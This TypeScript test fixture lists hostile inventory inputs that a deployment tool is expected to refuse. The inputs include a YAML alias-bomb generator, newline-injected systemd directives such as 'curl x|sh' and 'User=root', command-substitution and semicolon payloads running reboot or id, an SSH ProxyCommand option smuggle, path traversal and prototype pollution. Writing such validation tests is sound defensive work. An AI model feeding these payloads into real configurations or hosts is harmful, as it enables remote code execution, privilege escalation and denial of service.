// Hostile inventories: alias bombs, huge files, wrong shapes, and values that would reach a host's shell or units.
import type { HostileCase, InventoryDoc } from './hostile-fixture.js';

// A billion-laughs document: `levels` anchors, each a list of `width` aliases to the one before.
export function aliasBomb(levels: number, width: number, top: string): string {
  const lines = [`l0: &l0 [${Array(width).fill('"lol"').join(', ')}]`];
  for (let level = 1; level < levels; level++) {
    lines.push(
      `l${level}: &l${level} [${Array(width)
        .fill(`*l${level - 1}`)
        .join(', ')}]`,
    );
  }
  lines.push(`${top}: *l${levels - 1}`);
  return `${lines.join('\n')}\n`;
}

const acme = (doc: InventoryDoc) => doc['customers'].acme;
const host = (doc: InventoryDoc) => acme(doc).hosts['acme-1'];
const vars = (doc: InventoryDoc) => {
  acme(doc).vars ??= {};
  return acme(doc).vars;
};

// Each refused with exit 1 before any connection; `path` is what the message must name.
export const INVENTORY_CASES: HostileCase[] = [
  {
    name: 'alias bomb: 9 levels of 9 (387M nodes)',
    inventoryText: aliasBomb(9, 9, 'customers'),
    file: 'inventory',
    path: 'aliases are expanded',
  },
  {
    name: 'alias bomb: 300 aliases',
    inventoryText: aliasBomb(2, 300, 'customers'),
    file: 'inventory',
    path: 'aliases',
  },
  {
    name: 'enormous file (6 MiB)',
    inventoryText: `customers: {}\n${'# padding padding padding\n'.repeat(250_000)}`,
    file: 'inventory',
    path: 'MiB',
  },
  {
    name: 'binary garbage',
    inventoryText: '\u0000\u0001\u0002customers',
    file: 'inventory',
    path: 'inventory.yml',
  },
  {
    name: 'customers as a list',
    inventory: (doc) => {
      doc['customers'] = ['acme'];
    },
    file: 'inventory',
    path: 'customers',
  },
  {
    name: 'unknown key on a customer',
    inventory: (doc) => {
      acme(doc).vrs = {};
    },
    file: 'inventory',
    path: 'customers/acme/vrs',
  },
  {
    name: 'display_name injects a directive (newline)',
    inventory: (doc) => {
      acme(doc).display_name = 'Acme\nExecStartPre=/bin/sh -c "curl x|sh"';
    },
    file: 'inventory',
    path: 'customers/acme/display_name',
  },
  {
    name: 'display_name injects a section (CR)',
    inventory: (doc) => {
      acme(doc).display_name = 'Acme\r[Service]';
    },
    file: 'inventory',
    path: 'customers/acme/display_name',
  },
  {
    name: 'display_name ending in a line continuation',
    inventory: (doc) => {
      acme(doc).display_name = 'Acme \\';
    },
    file: 'inventory',
    path: 'customers/acme/display_name',
  },
  {
    name: 'memory_max with a shell command',
    inventory: (doc) => {
      vars(doc).memory_max = '1G; reboot';
    },
    file: 'inventory',
    path: 'customers/acme/vars/memory_max',
  },
  {
    name: 'memory_max with a newline directive',
    inventory: (doc) => {
      vars(doc).memory_max = '1G\nUser=root';
    },
    file: 'inventory',
    path: 'customers/acme/vars/memory_max',
  },
  {
    name: 'run_as with command substitution',
    inventory: (doc) => {
      vars(doc).run_as = '$(reboot)';
    },
    file: 'inventory',
    path: 'customers/acme/vars/run_as',
  },
  {
    name: 'run_as with a semicolon',
    inventory: (doc) => {
      vars(doc).run_as = 'hf;id';
    },
    file: 'inventory',
    path: 'customers/acme/vars/run_as',
  },
  {
    name: 'run_as looking like an option',
    inventory: (doc) => {
      vars(doc).run_as = '-oroot';
    },
    file: 'inventory',
    path: 'customers/acme/vars/run_as',
  },
  {
    name: 'install_dir traversal',
    inventory: (doc) => {
      vars(doc).install_dir = '/opt/../etc';
    },
    file: 'inventory',
    path: 'customers/acme/vars/install_dir',
  },
  {
    name: 'install_dir relative',
    inventory: (doc) => {
      vars(doc).install_dir = '../../etc';
    },
    file: 'inventory',
    path: 'customers/acme/vars/install_dir',
  },
  {
    name: 'data_dir with backticks',
    inventory: (doc) => {
      vars(doc).data_dir = '/data/`id`';
    },
    file: 'inventory',
    path: 'customers/acme/vars/data_dir',
  },
  {
    name: 'data_dir with a space',
    inventory: (doc) => {
      vars(doc).data_dir = '/data/a b';
    },
    file: 'inventory',
    path: 'customers/acme/vars/data_dir',
  },
  {
    name: 'services entry with a command',
    inventory: (doc) => {
      vars(doc).services = ['hub-platform; reboot'];
    },
    file: 'inventory',
    path: 'customers/acme/vars/services',
  },
  {
    name: 'services entry with traversal',
    inventory: (doc) => {
      vars(doc).services = ['../../etc/passwd'];
    },
    file: 'inventory',
    path: 'customers/acme/vars/services',
  },
  {
    name: 'companions entry with a newline',
    inventory: (doc) => {
      vars(doc).companions = ['dbt-run\nExecStart=/bin/sh'];
    },
    file: 'inventory',
    path: 'customers/acme/vars/companions',
  },
  {
    name: 'dbt_schedule with a newline',
    inventory: (doc) => {
      vars(doc).dbt_schedule = '*-*-* 02:00\nOnBootSec=1';
    },
    file: 'inventory',
    path: 'customers/acme/vars/dbt_schedule',
  },
  {
    name: 'known_dropins with traversal',
    inventory: (doc) => {
      vars(doc).known_dropins = ['../../evil.conf'];
    },
    file: 'inventory',
    path: 'customers/acme/vars/known_dropins',
  },
  {
    name: 'extra var with a newline',
    inventory: (doc) => {
      vars(doc).extra = { note: 'a\nExecStart=/bin/sh' };
    },
    file: 'inventory',
    path: 'customers/acme/vars/extra/note',
  },
  {
    name: 'extra var with a bad name',
    inventory: (doc) => {
      vars(doc).extra = { 'a-b': 'x' };
    },
    file: 'inventory',
    path: 'customers/acme/vars/extra/a-b',
  },
  {
    name: 'extra var as a nested mapping',
    inventory: (doc) => {
      vars(doc).extra = { deep: { x: 1 } };
    },
    file: 'inventory',
    path: 'customers/acme/vars/extra/deep',
  },
  {
    name: 'address with command substitution',
    inventory: (doc) => {
      host(doc).address = '$(reboot)';
    },
    file: 'inventory',
    path: 'customers/acme/hosts/acme-1/address',
  },
  {
    name: 'login user with a newline',
    inventory: (doc) => {
      host(doc).user = 'root\nid';
    },
    file: 'inventory',
    path: 'customers/acme/hosts/acme-1/user',
  },
  {
    name: 'login user looking like an option',
    inventory: (doc) => {
      host(doc).user = '-oProxyCommand=sh';
    },
    file: 'inventory',
    path: 'customers/acme/hosts/acme-1/user',
  },
  {
    name: 'port as a string',
    inventory: (doc) => {
      host(doc).port = '22; reboot';
    },
    file: 'inventory',
    path: 'customers/acme/hosts/acme-1/port',
  },
  {
    name: 'host name with a slash',
    inventory: (doc) => {
      acme(doc).hosts = { '../etc': { address: '127.0.0.1' } };
    },
    file: 'inventory',
    path: 'customers/acme/hosts/../etc',
  },
  {
    name: 'customer id with a semicolon',
    inventory: (doc) => {
      doc['customers'] = { 'acme;id': { hosts: { a: { address: '127.0.0.1' } } } };
    },
    file: 'inventory',
    path: 'customers/acme;id',
  },
  {
    name: 'jump host with a command',
    inventory: (doc) => {
      doc['defaults'].ssh.jump = 'root@$(id)';
    },
    file: 'inventory',
    path: 'defaults/ssh/jump',
  },
  {
    name: '__proto__ as a var name',
    inventoryText:
      'customers:\n  acme:\n    vars: { __proto__: { polluted: true } }\n    hosts: { acme-1: { address: 127.0.0.1 } }\n',
    file: 'inventory',
    path: 'customers/acme/vars/__proto__',
  },
];
